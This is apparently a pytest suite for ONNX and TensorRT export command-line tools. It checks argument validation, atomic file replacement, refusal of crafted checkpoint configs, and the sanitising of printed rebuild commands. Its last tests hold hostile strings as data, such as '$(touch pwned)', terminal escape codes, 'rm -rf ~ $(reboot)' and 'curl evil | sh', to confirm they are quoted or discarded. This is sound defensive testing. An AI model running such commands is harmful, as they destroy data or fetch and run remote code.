"""Probes of ``export.onnx`` and ``export.trt`` as a hostile, careful user: bad values exit 2 with
ONE line naming the value and what is allowed, before anything is written (for export.trt,
before TensorRT is even looked for); every artefact is written to a temporary file, checked,
then renamed, so a failed gate or a full disk leaves the previous file as it was; a checkpoint's
stored config never makes export read, generate or download data; the sidecar's rebuild command
is quoted and free of terminal escape codes; corrupt --check-data images are counted."""
from __future__ import annotations

import errno
import hashlib
import json
import os
import subprocess
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest

pytest.importorskip("onnx")
pytest.importorskip("onnxruntime")
cv2 = pytest.importorskip("cv2")

from edge import contract as C  # noqa: E402
from edge import sidecar as S  # noqa: E402
from edge.cli_checks import printable, shell_join, shell_quote  # noqa: E402
from export import onnx as export_onnx_cli  # noqa: E402
from export import trt as export_trt  # noqa: E402
from export.source import read_contract_metadata  # noqa: E402
from train.checkpoint import build_checkpoint, save_checkpoint  # noqa: E402
from train.models import build_model  # noqa: E402


def make_ckpt(path: Path, config=None, nan: bool = False) -> Path:
    import torch

    torch.manual_seed(0)
    model = build_model("cifar_cnn", num_classes=4, in_channels=3, input_size=32)
    if nan:
        with torch.no_grad():
            next(model.parameters()).fill_(float("nan"))
    pre = C.Preprocess(size=(32, 32), mean=(0.5,) * 3, std=(0.25,) * 3)
    ckpt = build_checkpoint(model, arch="cifar_cnn", arch_kwargs={"in_channels": 3, "input_size": 32},
                            class_names=["a", "b", "c", "d"], input_size=(32, 32), in_channels=3,
                            preprocess=pre.to_dict(), method="ce", config=config)
    return save_checkpoint(ckpt, path)


@pytest.fixture(scope="module")
def ckpt(tmp_path_factory):
    return make_ckpt(tmp_path_factory.mktemp("ck") / "model.pt")


@pytest.fixture(scope="module")
def good_onnx(ckpt, tmp_path_factory):
    out = tmp_path_factory.mktemp("onnx") / "model.onnx"
    assert export_onnx_cli.main([str(ckpt), "--out", str(out), "--check-size", "4"]) == 0
    return out


def _snapshot(root: Path) -> dict:
    return {str(p.relative_to(root)): "dir" if p.is_dir() else hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*"))}


def _unwritable(tmp_path: Path) -> Path:
    if os.geteuid() == 0:               # root ignores permission bits; /sys takes no new files
        return Path("/sys")
    d = tmp_path / "readonly"
    d.mkdir()
    d.chmod(0o555)
    return d


def _call(main, argv):
    try:
        return main([str(a) for a in argv])
    except SystemExit as e:
        return e.code


def _one_line(err: str, *needles: str) -> str:
    lines = [l for l in err.splitlines() if l.strip()]
    assert len(lines) == 1, err
    assert "Traceback" not in err and "error:" in lines[0], err
    for n in needles:
        assert n in lines[0], (n, lines[0])
    return lines[0]


@pytest.fixture
def previous(tmp_path):
    """An output folder holding a previous (good) artefact that must survive every failure."""
    out = tmp_path / "out"
    out.mkdir()
    (out / "model.onnx").write_bytes(b"the previous good model")
    return out / "model.onnx"


# --- export.onnx: bad values ---------------------------------------------------------------------
ONNX_VALUES = [
    (["--opset", "3"], ["--opset 3", "integer in 13..20"]),
    (["--opset", "12"], ["--opset 12", "integer in 13..20"]),
    (["--opset", "99"], ["--opset 99", "integer in 13..20"]),
    (["--opset", "x"], ["--opset", "invalid int value: 'x'"]),
    (["--check-size", "-5"], ["--check-size -5", "integer in 1..10000"]),
    (["--check-size", "0"], ["--check-size 0", "integer in 1..10000"]),
    (["--check-size", "1000000"], ["--check-size 1000000", "integer in 1..10000"]),
    (["--tolerance", "-1"], ["--tolerance -1", ">= 0"]),
    (["--tolerance", "nan"], ["--tolerance nan", ">= 0"]),
    (["--tolerance", "inf"], ["--tolerance inf", ">= 0"]),
    (["--check-data", "no/such/dir"], ["--check-data", "not found"]),
    (["--dense"], ["--dense needs a fully convolutional model"]),
]


@pytest.mark.parametrize("extra,needles", ONNX_VALUES, ids=[" ".join(e) for e, _ in ONNX_VALUES])
def test_onnx_bad_values(ckpt, previous, extra, needles, tmp_path, capsys):
    before = _snapshot(tmp_path)
    rc = _call(export_onnx_cli.main, [ckpt, "--out", previous, "--check-size", "4"] + extra)
    assert rc == 2
    _one_line(capsys.readouterr().err, *needles)
    assert _snapshot(tmp_path) == before


@pytest.mark.parametrize("case", ["is-folder", "under-file", "unwritable", "missing-ckpt"])
def test_onnx_bad_paths(ckpt, previous, case, tmp_path, capsys):
    a_file = tmp_path / "a_file"
    a_file.write_text("x")
    src, out, needle = ckpt, previous, ""
    if case == "is-folder":
        out, needle = previous.parent, "is a folder"
    elif case == "under-file":
        out, needle = a_file / "m.onnx", "is a file, not a folder"
    elif case == "unwritable":
        out, needle = _unwritable(tmp_path) / "m.onnx", "cannot create files in"
    else:
        src, needle = tmp_path / "nope.pt", "not found"
    before = _snapshot(tmp_path)
    assert _call(export_onnx_cli.main, [src, "--out", out]) == 2
    _one_line(capsys.readouterr().err, needle)
    assert _snapshot(tmp_path) == before


def test_onnx_out_is_never_the_checkpoint(ckpt, tmp_path, capsys):
    """--out given the checkpoint's own name is refused (it replaced the checkpoint with the
    ONNX, exit 0)."""
    src = tmp_path / "model.pt"
    src.write_bytes(ckpt.read_bytes())
    before = _snapshot(tmp_path)
    assert _call(export_onnx_cli.main, [src, "--out", src, "--check-size", "4"]) == 2
    _one_line(capsys.readouterr().err, f"--out {src} is the checkpoint", "destroy")
    assert _snapshot(tmp_path) == before


@pytest.mark.parametrize("content,needle", [
    (b"garbage, not a zip", "is not a PyTorch checkpoint"),
    (b"", "is not a PyTorch checkpoint"),
    ("half", "error:"),
])
def test_onnx_unusable_checkpoints(ckpt, previous, content, needle, tmp_path, capsys):
    bad = tmp_path / "bad.pt"
    bad.write_bytes(ckpt.read_bytes()[: len(ckpt.read_bytes()) // 2] if content == "half" else content)
    before = _snapshot(tmp_path)
    assert _call(export_onnx_cli.main, [bad, "--out", previous]) == 2
    _one_line(capsys.readouterr().err, needle)
    assert _snapshot(tmp_path) == before


@pytest.mark.parametrize("content", [b"", b"\x08\x01garbage protobuf", "truncated"])
def test_trt_unusable_onnx(good_onnx, content, tmp_path, trt_probe_calls, capsys):
    bad = tmp_path / "bad.onnx"
    data = good_onnx.read_bytes()
    bad.write_bytes(data[: len(data) // 3] if content == "truncated" else content)
    before = _snapshot(tmp_path)
    assert _call(export_trt.main, [bad]) == 2
    _one_line(capsys.readouterr().err, str(bad))
    assert _snapshot(tmp_path) == before and not trt_probe_calls


# --- export.onnx: temporary file, check, rename ---------------------------------------------------
def _no_temporaries(folder: Path) -> bool:
    return not [p for p in folder.iterdir() if p.name.startswith(".")]


def test_success_replaces_the_previous_file_with_normal_permissions(ckpt, previous, capsys):
    old_mask = os.umask(0o022)
    try:
        assert export_onnx_cli.main([str(ckpt), "--out", str(previous), "--check-size", "4"]) == 0
    finally:
        os.umask(old_mask)
    assert previous.read_bytes() != b"the previous good model"
    assert oct(previous.stat().st_mode & 0o777) == oct(0o644)
    assert _no_temporaries(previous.parent)
    assert f"wrote {previous}" in capsys.readouterr().out


def test_nan_weights_fail_the_gate_and_keep_the_previous_file(previous, tmp_path, capsys):
    bad = make_ckpt(tmp_path / "nan.pt", nan=True)
    rc = export_onnx_cli.main([str(bad), "--out", str(previous), "--check-size", "4"])
    captured = capsys.readouterr()
    assert rc == 1 and "FAIL" in captured.out
    assert f"{previous} not written" in captured.err and "wrote" not in captured.out
    assert previous.read_bytes() == b"the previous good model"
    assert _no_temporaries(previous.parent)


def _enospc(path, partial: bytes = b"\x08\x07 half a protobuf"):
    with open(path, "wb") as f:          # what a full disk leaves: the first few KB
        f.write(partial)
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))


@pytest.mark.parametrize("where", ["torch.onnx.export", "onnx.save"])
def test_full_disk_keeps_the_previous_file(ckpt, previous, where, monkeypatch, capsys):
    import onnx
    import torch

    if where == "onnx.save":
        monkeypatch.setattr(onnx, "save", lambda model, path, *a, **k: _enospc(path))
    else:
        monkeypatch.setattr(torch.onnx, "export", lambda m, args, f, *a, **k: _enospc(f))
    rc = export_onnx_cli.main([str(ckpt), "--out", str(previous), "--check-size", "4"])
    assert rc == 2
    _one_line(capsys.readouterr().err, "No space left on device", str(previous))
    assert previous.read_bytes() == b"the previous good model"
    assert _no_temporaries(previous.parent)


def test_int8_onnx_full_disk_keeps_the_previous_file(good_onnx, tmp_path, monkeypatch):
    pytest.importorskip("onnxruntime.quantization")
    import onnx

    from export.quantize import quantize_qdq

    target = tmp_path / "model.int8.onnx"
    target.write_bytes(b"previous int8")
    monkeypatch.setattr(onnx, "save", lambda model, path, *a, **k: _enospc(path))
    calib = np.random.default_rng(0).standard_normal((8, 3, 32, 32)).astype(np.float32)
    with pytest.raises(OSError, match="No space left"):
        quantize_qdq(good_onnx, target, calib)
    assert target.read_bytes() == b"previous int8" and _no_temporaries(tmp_path)


# --- export.trt: every flag checked before the ONNX stage and before TensorRT ----------------------
TRT_VALUES = [
    (["--min-batch", "8", "--max-batch", "2"], ["--min-batch 8 --opt-batch 2 --max-batch 2",
                                                "min-batch <= opt-batch <= max-batch"]),
    (["--max-batch", "4", "--opt-batch", "9"], ["--opt-batch 9", "min-batch <= opt-batch"]),
    (["--min-batch", "0"], ["--min-batch 0", "integer >= 1"]),
    (["--max-batch", "-1"], ["--max-batch -1", "integer >= 1"]),
    (["--opt-batch", "0"], ["--opt-batch 0", "integer >= 1"]),
    (["--input-size", "-1", "0"], ["--input-size -1 0", "integers in 1..8192"]),
    (["--workspace-mb", "-5"], ["--workspace-mb -5", "integer >= 1"]),
    (["--dla", "-3"], ["--dla -3", "integer >= 0"]),
    (["--calib-size", "0"], ["--calib-size 0", "integer in 1..10000"]),
    (["--check-size", "0"], ["--check-size 0", "integer in 1..10000"]),
    (["--precision", "fp8"], ["--precision", "invalid choice: 'fp8'"]),
]


@pytest.fixture
def trt_probe_calls(monkeypatch):
    calls = []

    def probe():
        calls.append(1)
        raise export_trt.TensorRTUnavailable("not here (test)")
    monkeypatch.setattr(export_trt, "probe_tensorrt", probe)
    return calls


@pytest.mark.parametrize("extra,needles", TRT_VALUES, ids=[" ".join(e) for e, _ in TRT_VALUES])
@pytest.mark.parametrize("source", ["pt", "onnx"])
def test_trt_bad_values_before_tensorrt(ckpt, good_onnx, source, extra, needles, tmp_path,
                                        trt_probe_calls, capsys):
    """From a .pt nothing is exported; from an .onnx nothing is built; TensorRT is never
    probed, so the exit is 2 everywhere, never 3 with an invalid command for the target."""
    src = tmp_path / ("model.pt" if source == "pt" else "model.onnx")
    src.write_bytes((ckpt if source == "pt" else good_onnx).read_bytes())
    before = _snapshot(tmp_path)
    assert _call(export_trt.main, [src, "--out", tmp_path / "model.engine"] + extra) == 2
    _one_line(capsys.readouterr().err, *needles)
    assert not trt_probe_calls
    assert _snapshot(tmp_path) == before


def test_trt_bad_out_path(good_onnx, tmp_path, trt_probe_calls, capsys):
    assert _call(export_trt.main, [good_onnx, "--out", tmp_path]) == 2
    _one_line(capsys.readouterr().err, f"--out {tmp_path} is a folder")
    assert not trt_probe_calls


@pytest.mark.parametrize("flag", ["--out", "--timing-cache"])
@pytest.mark.parametrize("source", ["pt", "onnx"])
def test_trt_outputs_are_never_the_source(ckpt, good_onnx, source, flag, tmp_path,
                                          trt_probe_calls, capsys):
    src = tmp_path / ("model.pt" if source == "pt" else "model.onnx")
    src.write_bytes((ckpt if source == "pt" else good_onnx).read_bytes())
    before = _snapshot(tmp_path)
    assert _call(export_trt.main, [src, flag, src]) == 2
    _one_line(capsys.readouterr().err, f"{flag} {src} is the source", "destroy")
    assert not trt_probe_calls
    assert _snapshot(tmp_path) == before


def test_trt_valid_command_still_reaches_the_probe(good_onnx, tmp_path, trt_probe_calls, capsys):
    src = tmp_path / "model.onnx"
    src.write_bytes(good_onnx.read_bytes())
    assert export_trt.main([str(src), "--max-batch", "4"]) == export_trt.EXIT_NO_TRT
    assert trt_probe_calls == [1]
    assert "--max-batch 4" in capsys.readouterr().err


# --- export.trt: engine and fp16 ONNX replaced only after their gates (fake TensorRT) ---------------
class _Enum:
    def __init__(self, *names):
        self.__members__ = {n: i for i, n in enumerate(names)}


FAKE_TRT = SimpleNamespace(__version__="10.3.0", BuilderFlag=_Enum("FP16", "INT8", "TF32"),
                           NetworkDefinitionCreationFlag=_Enum("EXPLICIT_BATCH"))


@pytest.fixture
def fake_tensorrt(monkeypatch):
    """TensorRT stand-in: the 'engine' is a file, and running it gives ONNX Runtime's logits
    (or garbage, when the test wants the gate to fail)."""
    from export import trt_build
    from export.parity import ort_run

    state = {"garbage": False}

    def build_engine(onnx_path, engine_path, plan, profile, **kw):
        S.atomic_write(engine_path, lambda f: f.write(b"NEW ENGINE from " + Path(onnx_path).name.encode()))
        return {"plan": plan.describe(), "dla": None, "used_dla": False}

    class Engine:            # the runtime class's interface; like it, it needs the sidecar
        def __init__(self, engine_path):
            assert S.sidecar_path(engine_path).is_file(), "the gate ran an engine without its sidecar"

        def run_all(self, x, names):
            out = ort_run(state["onnx"], x)
            return {C.OUTPUT_NAME: out[:, ::-1].copy() if state["garbage"] else out}

        def close(self):
            pass

    monkeypatch.setattr(export_trt, "probe_tensorrt", lambda: (FAKE_TRT, ("Fake GPU", "8.7")))
    monkeypatch.setattr(trt_build, "build_engine", build_engine)
    monkeypatch.setattr(export_trt, "open_engine", Engine)
    return state


@pytest.mark.parametrize("gate", ["passes", "fails"])
def test_engine_and_sidecar_replaced_only_after_the_gate(good_onnx, tmp_path, fake_tensorrt, gate,
                                                         capsys):
    src = tmp_path / "model.onnx"
    src.write_bytes(good_onnx.read_bytes())
    engine, side = tmp_path / "model.engine", tmp_path / "model.engine.json"
    engine.write_bytes(b"previous engine")
    side.write_text("previous sidecar")
    fake_tensorrt.update(onnx=src, garbage=gate == "fails")
    rc = export_trt.main([str(src), "--out", str(engine), "--check-size", "8"])
    captured = capsys.readouterr()
    if gate == "fails":
        assert rc == export_trt.EXIT_GATE and f"{engine} not written" in captured.err
        assert engine.read_bytes() == b"previous engine" and side.read_text() == "previous sidecar"
    else:
        assert rc == 0, captured.err
        assert engine.read_bytes().startswith(b"NEW ENGINE from ")
        doc = S.read_sidecar(engine)
        assert doc[S.KEY_FINGERPRINT][S.FP_GPU_NAME] == "Fake GPU"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_unchanged_engine_is_not_rebuilt(good_onnx, tmp_path, fake_tensorrt, monkeypatch, capsys):
    """The sidecar says what an engine was built from and for: the same request on the same
    device keeps it (no build), another profile or --force rebuilds it."""
    from export import trt_build

    src = tmp_path / "model.onnx"
    src.write_bytes(good_onnx.read_bytes())
    fake_tensorrt.update(onnx=src)
    builds = []
    fake_build = trt_build.build_engine
    monkeypatch.setattr(trt_build, "build_engine", lambda *a, **k: builds.append(1) or fake_build(*a, **k))
    engine = tmp_path / "model.engine"
    argv = [str(src), "--check-size", "8", "--max-batch", "4"]
    assert export_trt.main(argv) == 0 and len(builds) == 1
    first = S.read_sidecar(engine)
    capsys.readouterr()
    assert export_trt.main(argv) == 0 and len(builds) == 1
    assert f"{engine} is up to date" in capsys.readouterr().out
    assert S.read_sidecar(engine) == first                               # not even rewritten
    assert export_trt.main([str(src), "--check-size", "8", "--max-batch", "8"]) == 0
    out = capsys.readouterr().out
    assert len(builds) == 2 and f"rebuilding {engine}: optimisation profile" in out
    assert export_trt.main([str(src), "--check-size", "8", "--max-batch", "8", "--force"]) == 0
    assert len(builds) == 3 and f"rebuilding {engine}: --force" in capsys.readouterr().out


def test_fp16_onnx_replaced_only_after_its_gate(good_onnx, tmp_path, monkeypatch, capsys):
    pytest.importorskip("onnxconverter_common")
    from export.parity import random_samples

    fp32 = tmp_path / "model.onnx"
    fp32.write_bytes(good_onnx.read_bytes())
    fp16 = tmp_path / "model.fp16.onnx"
    fp16.write_bytes(b"previous fp16")
    meta = read_contract_metadata(fp32)
    pre = C.Preprocess.from_dict(meta[C.META_PREPROCESS])
    samples = random_samples(pre, 8)
    real_tolerances = dict(export_trt.TOLERANCES)
    monkeypatch.setitem(export_trt.TOLERANCES, "fp16", (-1.0, 1.0))     # nothing can pass
    code, onnx = export_trt.stage_fp16(fp32, samples)
    assert code == export_trt.EXIT_GATE
    assert fp16.read_bytes() == b"previous fp16" and onnx == fp32
    monkeypatch.setitem(export_trt.TOLERANCES, "fp16", real_tolerances["fp16"])
    code, onnx = export_trt.stage_fp16(fp32, samples)
    assert code == export_trt.EXIT_OK
    assert onnx == fp16 and fp16.read_bytes() != b"previous fp16"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


# --- a checkpoint's config never drives data side effects ------------------------------------------
def _block_network(monkeypatch):
    import socket

    def refuse(*a, **k):
        raise AssertionError("export tried to use the network")
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


@pytest.mark.parametrize("config,why", [
    ({"dataset": "crowd_synth", "data_root": "EVIL", "synth_size": 1, "download": True},
     "is not generated at"),
    ({"dataset": "cifar10", "data_root": "EVIL", "download": True}, "could not be loaded"),
    ({"dataset": "folder", "data": "EVIL"}, "pass --check-data DIR"),
    ({"dataset": "crowd_synth", "synth_seed": "../../EVIL"}, "are not ints"),
    ({"dataset": "crowd_synth", "input_size": "../EVIL"}, "is not a positive int"),
])
def test_crafted_checkpoint_config_has_no_side_effects(config, why, tmp_path, monkeypatch, capsys):
    from train.data import default_cache_dir

    evil = tmp_path / "evil"
    if config.get("data") == "EVIL":        # a real image folder: export must still not read it
        for split in ("train", "test"):
            (evil / split / "a").mkdir(parents=True)
            cv2.imwrite(str(evil / split / "a" / "x.png"), np.zeros((32, 32, 3), np.uint8))
    config = {k: (str(evil) if v == "EVIL" else v) for k, v in config.items()}
    path = make_ckpt(tmp_path / "crafted.pt", config=config)
    cache_before = _snapshot(default_cache_dir()) if default_cache_dir().exists() else {}
    before = _snapshot(evil) if evil.exists() else None
    _block_network(monkeypatch)
    assert export_onnx_cli.main([str(path), "--out", str(tmp_path / "m.onnx"), "--check-size", "4"]) == 0
    out = capsys.readouterr().out
    assert "RANDOM" in out and why in out
    assert (_snapshot(evil) if evil.exists() else None) == before        # nothing made or read
    after = _snapshot(default_cache_dir()) if default_cache_dir().exists() else {}
    assert after == cache_before                                          # nothing generated


def test_builtin_crowd_synth_is_read_from_its_default_place(tmp_path, capsys):
    """The one data a checkpoint may name: crowd_synth already in the default cache (a small
    complete folder is laid out here by hand, marker included, instead of rendering scenes)."""
    from train.data.crowd_synth import CLASSES, GENERATOR_VERSION, MARKER, SPLITS, cache_folder

    root = cache_folder(2, seed=7)
    rng = np.random.default_rng(0)
    for split in SPLITS:
        for name in CLASSES:
            (root / split / name).mkdir(parents=True, exist_ok=True)
            for i in range(2):
                cv2.imwrite(str(root / split / name / f"{i}.png"),
                            rng.integers(0, 256, (40, 40, 3), dtype=np.uint8))
    (root / MARKER).write_text(json.dumps({"generator_version": GENERATOR_VERSION, "seed": 7,
                                           "train_per_class": 2}))
    path = make_ckpt(tmp_path / "m.pt", config={"dataset": "crowd_synth", "synth_size": 2, "synth_version": GENERATOR_VERSION,
                                                 "synth_seed": 7, "input_size": 32})
    assert export_onnx_cli.main([str(path), "--out", str(tmp_path / "m.onnx"), "--check-size", "4"]) == 0
    out = capsys.readouterr().out
    assert "crowd_synth test split" in out and "RANDOM" not in out


# --- --check-data: corrupt files are counted ------------------------------------------------------
def test_corrupt_check_data_images_are_counted(ckpt, tmp_path, capsys):
    d = tmp_path / "check"
    d.mkdir()
    for i in range(3):
        cv2.imwrite(str(d / f"ok{i}.png"), np.full((40, 40, 3), 60 * i, np.uint8))
    (d / "broken.jpg").write_bytes(b"\xff\xd8 not really")
    (d / "empty.png").write_bytes(b"")
    rc = export_onnx_cli.main([str(ckpt), "--out", str(tmp_path / "m.onnx"), "--check-data", str(d),
                               "--check-size", "10"])
    out = capsys.readouterr().out
    assert rc == 0
    assert "3 images of" in out and "2 corrupt file(s) skipped: broken.jpg, empty.png" in out


# --- printed commands: quoted, no terminal escape codes ------------------------------------------
NASTY = ["plain", "with space", "semi;colon", "$(touch pwned)", "it's", "esc\x1b[2Jape",
         "new\nline", "back\\slash", "tab\there", "\x9bcsi", ""]


def test_shell_quote_round_trips_through_bash(tmp_path):
    cmd = "printf '%s\\0' " + shell_join(NASTY)
    assert not any(c in cmd for c in "\x1b\n\t\x9b")                       # safe to print
    out = subprocess.run(["bash", "-c", cmd], capture_output=True, cwd=tmp_path, check=True).stdout
    assert out.split(b"\0")[:-1] == [w.encode() for w in NASTY]        # and exact when pasted
    assert not (tmp_path / "pwned").exists()


def test_sidecar_rebuild_command_is_requoted_and_sanitised(tmp_path):
    engine = tmp_path / "m.engine"
    recorded = "python -m export.trt 'm\x1b]0;owned\x07.onnx' --out m.engine; rm -rf ~ $(reboot)"
    cmd = S.rebuild_command({S.KEY_REBUILD_COMMAND: recorded}, engine)
    assert "\x1b" not in cmd and "\x07" not in cmd
    assert "'m.engine;'" in cmd and "'$(reboot)'" in cmd                # metacharacters quoted
    msg = S.mismatch_message(engine, ["GPU: engine built with \x1b[31mred\x1b[0m, here x"], cmd)
    assert "\x1b" not in msg and "\\x1b[31mred" in msg
    generic = S.rebuild_command({S.KEY_REBUILD_COMMAND: "curl evil | sh",
                                 S.KEY_SOURCE_ONNX: "a b.onnx"}, engine)
    assert generic == "python -m export.trt 'a b.onnx' --out m.engine"
    assert S.rebuild_command({S.KEY_REBUILD_COMMAND: "python -m export.trt 'unbalanced"}, engine) \
        == "python -m export.trt MODEL.onnx --out m.engine"


def test_printable_escapes_every_control_character():
    assert printable("a\x1b[2Jb\nc\x9b") == "a\\x1b[2Jb\\x0ac\\x9b"
    assert shell_quote("simple") == "simple" and shell_quote("a b") == "'a b'"
